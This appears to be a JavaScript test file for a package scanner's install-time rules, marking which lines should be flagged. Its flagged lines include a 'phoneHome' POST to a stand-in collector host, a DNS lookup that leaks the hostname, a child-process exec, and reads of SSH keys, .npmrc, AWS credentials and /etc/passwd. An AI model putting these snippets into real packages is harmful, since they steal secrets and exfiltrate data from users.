// Tests for install-time.yaml: every test file counts as code an install
// hook runs (docs/rules.md, "Install-time code").
const os = require('os');
const path = require('path');
// ruleid: pkg.install-time.network
const https = require('https');
// ruleid: pkg.install-time.network
const { request: send } = require("node:http");
// ruleid: pkg.install-time.network
const axios = require('axios');
// ok: pkg.install-time.network
const httpHelpers = require('./http');
// ok: pkg.install-time.network
const netmask = require('netmask');

async function phoneHome(data) {
  // ruleid: pkg.install-time.fetch
  await fetch('https://collector.example.com/c', { method: 'POST', body: data });
  // ruleid: pkg.install-time.fetch
  const ws = new WebSocket('wss://ws.example.com');
  // ok: pkg.install-time.fetch
  const cached = await fetchFromCache(data);
  // ok: pkg.install-time.fetch
  const d = new Date();
  // ok: pkg.install-time.fetch
  return this.fetch;
}

// ruleid: pkg.install-time.dns
const dns = require('dns');
// ruleid: pkg.install-time.dns
const { lookup } = require('node:dns/promises');
// ruleid: pkg.install-time.dns
import('dns').then((m) => m.resolve(os.hostname() + '.x.example.com', () => {}));
// ok: pkg.install-time.dns
const dnsPacket = require('dns-packet');
// ok: pkg.install-time.dns
const resolver = require('./dns');
// ok: pkg.install-time.dns
const dnsName = 'dns';

// ruleid: pkg.install-time.child-process
const cp = require('child_process');
// ruleid: pkg.install-time.child-process
const { spawn } = require('node:child_process');
// ruleid: pkg.install-time.child-process
import('child_process').then((m) => m.exec('id'));
// ok: pkg.install-time.child-process
const crossSpawn = require('./spawn');
// ok: pkg.install-time.child-process
const proc = process.pid;
// ok: pkg.install-time.child-process
const worker = require('worker_threads');

// ruleid: pkg.install-time.credentials
const key = path.join(os.homedir(), '.ssh', 'id_rsa');
// ruleid: pkg.install-time.credentials
const npmrc = `${os.homedir()}/.npmrc`;
// ruleid: pkg.install-time.credentials
const aws = require('fs').readFileSync(process.env.HOME + "/.aws/credentials", 'utf8');
// ruleid: pkg.install-time.credentials
const users = require('fs').readFileSync('/etc/passwd');
// ok: pkg.install-time.credentials
const cfg = path.join(__dirname, 'config.json');
// ok: pkg.install-time.credentials
const sshpk = require('sshpk');
// ok: pkg.install-time.credentials
const rc = '.eslintrc';
